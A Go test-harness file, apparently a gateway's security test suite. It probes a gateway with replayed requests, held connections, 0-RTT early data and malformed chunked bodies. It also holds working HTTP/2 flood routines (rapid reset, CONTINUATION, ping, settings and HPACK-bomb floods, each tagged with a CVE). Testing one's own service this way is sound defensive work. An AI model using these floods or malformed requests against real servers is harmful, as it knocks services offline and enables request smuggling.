package attacks

import (
	"bufio"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/quic-go/quic-go"
	"golang.org/x/net/http2"
)

// conversations are what no list of frames says: several requests on a connection, floods, and who waits. Each gives the
// answers that it got.
var conversations map[string]func(to door, v *values, argument string) []answer

func init() {
	conversations = map[string]func(to door, v *values, argument string) []answer{
		"again":         again,
		"again-2":       again2,
		"again-3":       again3,
		"held":          held,
		"twice":         twice,
		"two-partners":  func(to door, v *values, _ string) []answer { return keyed(to, v, "acme", "globex", false) },
		"another-order": func(to door, v *values, _ string) []answer { return keyed(to, v, "acme", "acme", true) },
		"slowly":        slowly,
		"early":         early,
		"upgraded":      upgraded,
		"flood":         flood,
		"streams":       streams,
		"broken":        broken,
	}
	known["order"] = func(*values, string) string {
		return `{"customer":{"name":"Ada","email":"ada@shop.example"},"currency":"EUR","total":{"amount":1},"lines":[{"sku":"A-1","qty":1}],"note":null}`
	}
}

// again sends a request so many times, on a connection each. A # in it is the number of the time.
func again(to door, v *values, argument string) []answer {
	return times(argument, func(r request) answer { return to.http1(r.http1(to.host()), 1)[0] }, v)
}

func again2(to door, v *values, argument string) []answer {
	return times(argument, func(r request) answer { return to.http2(r.frames(to.host()))[0] }, v)
}

func again3(to door, v *values, argument string) []answer {
	return times(argument, func(r request) answer { return to.http3(r.frames(to.host()))[0] }, v)
}

func times(argument string, send func(r request) answer, v *values) []answer {
	n, text, _ := strings.Cut(argument, " ")
	var all []answer
	for i := range integer(n) {
		all = append(all, send(v.parse(strings.ReplaceAll(text, "#", fmt.Sprint(i+1)), "")))
	}
	return all
}

// held has two requests wait at the service, asks for a third, and lets go.
func held(to door, v *values, _ string) []answer {
	g := to.g
	before := g.service.count()
	waiting := v.parse("GET /once/x-waits", credentials["acme"])
	var open []*tls.Conn
	for range 2 {
		c := to.dial("http/1.1")
		io.WriteString(c, waiting.http1(to.host())) //nolint:errcheck // the count tells
		open = append(open, c)
	}
	g.Within(patience, "both wait at the service", func() bool { return g.service.count() == before+2 })
	third := v.parse("GET /once/x", credentials["acme"])
	refused := to.http1(third.http1(to.host()), 1)[0]
	other := to.http2(third.frames(to.host()))[0]
	for _, c := range open {
		c.Close() //nolint:errcheck // nothing more is wanted of it
	}
	var last answer
	g.Within(patience, "a place is free", func() bool {
		last = to.http1(third.http1(to.host()), 1)[0]
		return last.status == http.StatusOK
	})
	return []answer{refused, other, last}
}

// twice sends one call of a webhook two times.
func twice(to door, v *values, _ string) []answer {
	r := v.parse("POST /hooks/github ↵ X-GitHub-Delivery: «id» ↵ X-Hub-Signature-256: sha256=«hmac «body»» ↵↵ {}", "")
	return []answer{to.http1(r.http1(to.host()), 1)[0], to.http2(r.frames(to.host()))[0]}
}

// keyed sends two orders with one key of idempotency, of one partner or two.
func keyed(to door, v *values, first, second string, another bool) []answer {
	order := `POST /api/v2/orders ↵ Content-Type: application/json ↵ Idempotency-Key: "«id»" ↵↵ {"customer":{"name":"Ada","email":"ada@shop.example"},"currency":"EUR","total":{"amount":1},"lines":[{"article":"A-1","qty":1}]}`
	all := []answer{to.http1(v.parse(order, credentials[first]).http1(to.host()), 1)[0]}
	if another {
		order = strings.Replace(order, `"qty":1`, `"qty":2`, 1)
	}
	return append(all, to.http1(v.parse(order, credentials[second]).http1(to.host()), 1)[0])
}

// slowly sends the beginning of a head and waits until the gateway has had enough.
func slowly(to door, _ *values, head string) []answer {
	c := to.dial("http/1.1")
	defer c.Close()         //nolint:errcheck // nothing more is wanted of it
	io.WriteString(c, head) //nolint:errcheck // the next read tells
	return answers1(bufio.NewReader(c), "GET", 1)
}

// upgraded opens a WebSocket and sends frames whose payload is said, masked with zeros, so that it is there to be read.
func upgraded(to door, v *values, payload string) []answer {
	c := to.dial("http/1.1")
	defer c.Close() //nolint:errcheck // nothing more is wanted of it
	asks := v.parse("GET /once/x-talks ↵ Connection: Upgrade ↵ Upgrade: websocket ↵ Sec-WebSocket-Version: 13 ↵ Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", credentials["acme"])
	io.WriteString(c, asks.http1(to.host())) //nolint:errcheck // the next read tells
	r := bufio.NewReader(c)
	res, err := http.ReadResponse(r, nil)
	if err != nil {
		return []answer{{end: ended(err)}}
	}
	frame := append([]byte{0x81, 0x80 | byte(len(payload)), 0, 0, 0, 0}, payload...)
	for range 3 {
		c.Write(frame) //nolint:errcheck // the next read tells
		got := make([]byte, len(frame))
		if _, err := io.ReadFull(r, got); err != nil || string(got) != string(frame) {
			return []answer{{end: fmt.Sprintf("%d, and then %q, %v", res.StatusCode, got, err)}}
		}
	}
	return []answer{{status: res.StatusCode, header: res.Header}}
}

// early makes a second QUIC connection with what the first was given, and sends a request before the handshake is over.
func early(to door, v *values, _ string) []answer {
	config := to.tls("h3")
	config.ClientSessionCache = tls.NewLRUClientSessionCache(1)
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	first, err := quic.DialAddr(ctx, address(to.port), config, nil)
	if err != nil {
		to.g.t.Fatal(err)
	}
	(&client3{c: first}).do(v.parse("GET /api/v2/orders", credentials["acme"]).frames(to.host()))
	first.CloseWithError(0x100, "") //nolint:errcheck // nothing more is wanted of it
	second, err := quic.DialAddrEarly(ctx, address(to.port), config, nil)
	if err != nil {
		to.g.t.Fatal(err)
	}
	defer second.CloseWithError(0x100, "") //nolint:errcheck // nothing more is wanted of it
	a := (&client3{c: second}).do(v.parse("GET /api/v2/orders", credentials["acme"]).frames(to.host()))
	if second.ConnectionState().Used0RTT {
		return []answer{{end: "early data was taken"}}
	}
	return []answer{a}
}

// flood sends so many frames of a kind over HTTP/2, however long the gateway listens, and then a good request on another
// connection, whose answer it gives.
func flood(to door, v *values, argument string) []answer {
	n, kind, _ := strings.Cut(argument, " ")
	c := to.dial2()
	defer c.Close()
	good := v.parse("GET /few", credentials["acme"]).frames(to.host())
	head := c.encoded(good[0].fields)
	var wg sync.WaitGroup
	wg.Go(func() { // what the gateway says is read, so that it is not what the flood waits for
		for {
			if f, err := c.framer.ReadFrame(); err != nil {
				return
			} else if s, ok := f.(*http2.SettingsFrame); ok {
				c.settings(s)
			}
		}
	})
	c.c.(*tls.Conn).SetDeadline(time.Now().Add(patience)) //nolint:errcheck,forcetypeassert // it was dialled as one
	c.mu.Lock()
	write := func(i int) error {
		stream := uint32(2*i + 1) //nolint:gosec // thousands
		switch kind {
		case "resets": // CVE-2023-44487
			if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			return c.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		case "made-resets": // CVE-2025-8671
			if err := c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true}); err != nil {
				return err
			}
			return c.framer.WriteWindowUpdate(stream, 0)
		case "continuations": // CVE-2023-45288
			if i == 0 {
				return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head})
			}
			return c.framer.WriteContinuation(1, false, c.encoded([]field{{"x-a", strings.Repeat("a", 8000)}}))
		case "empty-continuations": // CVE-2019-9518
			if i == 0 {
				return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head})
			}
			return c.framer.WriteContinuation(1, false, nil)
		case "empty-data": // CVE-2019-9518
			if i == 0 {
				return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: head, EndHeaders: true})
			}
			return c.framer.WriteData(1, false, nil)
		case "pings": // CVE-2019-9512
			return c.framer.WritePing(false, [8]byte{})
		case "settings": // CVE-2019-9515
			return c.framer.WriteSettings()
		case "priorities": // CVE-2019-9513
			return c.framer.WritePriority(stream, http2.PriorityParam{StreamDep: stream + 2, Weight: 1})
		case "references": // CVE-2016-6581, CVE-2026-49975: one large entry of the table, again and again
			block := c.encoded([]field{{"x-bomb", strings.Repeat("a", 3900)}})
			if i > 0 {
				block = []byte(strings.Repeat("\xbe", 4000))
			}
			return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: append(head[:len(head):len(head)], block...), EndStream: true, EndHeaders: true})
		case "empty-names": // CVE-2019-9516
			return c.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: []byte(strings.Repeat("\x00\x00\x00", 1000)), EndStream: true, EndHeaders: true})
		}
		panic("there is no flood of " + kind)
	}
	for i := range integer(n) {
		if write(i) != nil {
			break
		}
	}
	c.mu.Unlock()
	c.Close()
	wg.Wait()
	return []answer{to.g.asksGood()}
}

// streams opens so many streams of HTTP/2 with one write, and gives how they were answered, each status once with how often.
func streams(to door, v *values, argument string) []answer {
	n, target, _ := strings.Cut(argument, " ")
	c := to.dial2()
	defer c.Close()
	heads := v.parse("GET "+target, credentials["acme"]).frames(to.host())
	packet := &strings.Builder{}
	framer := http2.NewFramer(packet, nil)
	for i := range integer(n) {
		framer.WriteHeaders(http2.HeadersFrameParam{StreamID: uint32(2*i + 1), BlockFragment: c.encoded(heads[0].fields), EndStream: true, EndHeaders: true}) //nolint:errcheck,gosec // into memory; hundreds
	}
	if _, err := io.WriteString(c.c, packet.String()); err != nil {
		to.g.t.Fatal(err)
	}
	got := map[string]int{}
	for seen := 0; seen < integer(n); {
		f, err := c.framer.ReadFrame()
		if err != nil {
			got["closed"]++
			break
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			c.settings(f)
		case *http2.MetaHeadersFrame:
			got[f.PseudoValue("status")]++
			seen++
		case *http2.RSTStreamFrame:
			if f.ErrCode != http2.ErrCodeNo {
				got[f.ErrCode.String()]++
				seen++
			}
		case *http2.GoAwayFrame:
			got["goaway "+f.ErrCode.String()]++
		}
	}
	var told []string
	for status, n := range got {
		told = append(told, fmt.Sprintf("%d of %s", n, status))
	}
	slices.Sort(told)
	return []answer{{end: strings.Join(told, " ")}}
}

// broken breaks off so many requests, in each way that the protocol knows, and asks for the same in a good one. It gives the answer
// to the last that was broken off, and the good one's.
func broken(to door, v *values, argument string) []answer {
	n, target, _ := strings.Cut(argument, " ")
	head := v.expand("«head POST " + target + "» ↵ Transfer-Encoding: chunked ↵ Connection: close ↵ ↵ ")
	head = strings.Join(lines(head), "\r\n")
	before := to.g.service.count()
	var last answer
	for i := range integer(n) {
		last = to.http1(head+"2\r\n{}\r\n"+[]string{"0x2\r\n", "-1\r\n", "g\r\n", "0\r\nX-Consumer-Id\r\n\r\n"}[i%4], 1)[0]
		to.g.Within(patience, "the service sees it broken off", func() bool { return to.g.service.count() == before+i+1 })
	}
	return []answer{last, to.http1(head+"2\r\n{}\r\n0\r\n\r\n", 1)[0]}
}
